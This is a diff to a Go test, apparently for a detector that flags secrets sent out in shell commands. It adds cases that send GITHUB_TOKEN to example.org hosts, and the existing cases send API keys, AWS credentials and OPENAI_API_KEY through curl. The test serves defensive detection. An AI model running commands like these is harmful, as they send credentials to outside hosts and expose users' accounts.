@@ -12,6 +12,8 @@ import (
 func TestNamedSecrets(t *testing.T) {
 	for input, want := range map[string]bool{
 		`curl "https://example.org/?t=$GITHUB_TOKEN"`:                                 true,
+		`curl "https://example.org/github?t=$GITHUB_TOKEN"`:                           true,
+		`curl -H "Authorization: Bearer $GITHUB_TOKEN" https://github.example.org/`:   true,
 		`curl -d "key=${API_KEY}" https://example.org/`:                               true,
 		`curl -u "$AWS_ACCESS_KEY_ID:$AWS_SECRET_ACCESS_KEY" https://example.org/`:    true,
 		`curl -H "Authorization: Bearer $OPENAI_API_KEY" https://example.org/`:        true,
